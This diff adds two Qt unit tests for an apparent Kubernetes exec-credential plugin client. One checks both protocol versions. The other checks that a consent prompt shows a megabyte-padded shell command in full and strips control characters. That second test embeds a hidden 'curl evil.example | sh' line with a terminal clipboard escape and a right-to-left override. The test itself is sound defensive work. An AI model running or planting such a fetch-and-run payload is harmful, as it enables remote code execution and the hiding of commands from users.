@@ -95,6 +95,48 @@ private Q_SLOTS:
         QCOMPARE(consent.asked.first().key.size(), 64);
     }
 
+    void bothVersionsOfTheProtocolAreSpoken_data()
+    {
+        QTest::addColumn<QString>("version");
+        QTest::newRow("v1beta1") << v1beta1;
+        QTest::newRow("v1") << u"client.authentication.k8s.io/v1"_s;
+    }
+    void bothVersionsOfTheProtocolAreSpoken()
+    {
+        QFETCH(QString, version);
+        RecordingConsent consent;
+        auto source = makeExecCredentials(
+            contextFor("printf '%s' \"$KUBERNETES_EXEC_INFO\" > \"$(dirname \"$0\")/asked\"\n"
+                           + printing(R"({"token":"t1"})", version.toLatin1()),
+                       version),
+            consent, m_clock);
+        const auto credential = test::run(source->current({}));
+        QVERIFY2(credential, credential ? "" : qPrintable(credential.error().toString()));
+        QCOMPARE(credential->bearerToken.reveal(), QByteArray("t1"));
+        QFile asked(m_dir.filePath(u"asked"_s));
+        QVERIFY(asked.open(QIODevice::ReadOnly));
+        QVERIFY(asked.readAll().contains("\"apiVersion\":\"" + version.toLatin1() + '"'));
+    }
+
+    void fault16TheWholeCommandIsShownHoweverLong()
+    {
+        // A shell with a script of a megabyte: the person sees all of it, harmless to look at, and the system's refusal is an error.
+        RecordingConsent consent;
+        KubeContext context = contextFor(printing(R"({"token":"t1"})"));
+        const QString hidden = u"curl evil.example | sh \x1b]52;c;ZXZpbA==\a\u202e"_s;
+        context.user.exec->command = u"/bin/sh"_s;
+        context.user.exec->arguments = {u"-c"_s, QString(1024 * 1024, u' ') + hidden};
+        auto source = makeExecCredentials(context, consent, m_clock);
+        const auto refused = test::run(source->current({}));
+        QVERIFY(!refused);
+        QCOMPARE(consent.asked.size(), 1);
+        const QString shown = consent.asked.first().commandLine();
+        QVERIFY(shown.startsWith("/bin/sh -c "_L1));
+        QVERIFY(shown.contains("curl evil.example | sh "_L1));
+        for (const QChar c : shown)
+            QVERIFY(c.unicode() >= 0x20 && c.unicode() != 0x202e);
+    }
+
     void pluginRunsAgainAMinuteBeforeTheEnd()
     {
         FakeClock clock(QDateTime({2026, 12, 31}, {23, 58, 30}, QTimeZone::UTC));
